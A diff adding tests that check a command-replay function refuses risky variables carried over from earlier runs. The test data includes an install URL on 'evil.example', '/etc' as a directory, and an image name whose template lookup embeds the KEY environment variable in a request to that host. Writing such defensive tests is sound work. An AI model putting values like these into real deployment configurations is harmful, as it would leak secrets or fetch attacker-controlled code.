@@ -69,6 +69,32 @@ t.test('connections, providers and keys of a run are not taken: they could run c
   t.end()
 })
 
+t.test('programs, disks, paths, clusters and templates of a run are not taken', (t) => {
+  const vars = {
+    k3s_install_url: 'https://evil.example/',
+    docker_storage_force: true,
+    registry_dir: '/etc',
+    kubecontext: 'production',
+    images: [{ name: "evil.example/{{ lookup('env', 'KEY') }}" }],
+  }
+  for (const run of [start([], { variables: vars }), start(['-e', JSON.stringify(vars)])])
+    t.same(repeatedCommand(run, nobody), {
+      playbook: 'load',
+      args: [],
+      notes: [`not taken from the run: ${Object.keys(vars).join(', ')}`],
+    })
+  t.end()
+})
+
+t.test('words after "--" that would be options, and options of the playbook, are refused', (t) => {
+  t.throws(() => repeatedCommand(start(['--', '--allow-faults']), nobody), /"--allow-faults", so it cannot be repeated/)
+  t.throws(
+    () => repeatedCommand(start(['--measure']), nobody),
+    /^the command line of the run: unknown option --measure/,
+  )
+  t.end()
+})
+
 t.test('masked secrets and files are refused, unless the reader specifies them', (t) => {
   const run = start(['-e', 'password=[REDACTED] x=1', '-e', '{"url": "http://u:[REDACTED]@h"}', '-e', '@conf/lab.yml'])
   t.throws(() => repeatedCommand(run, nobody), {
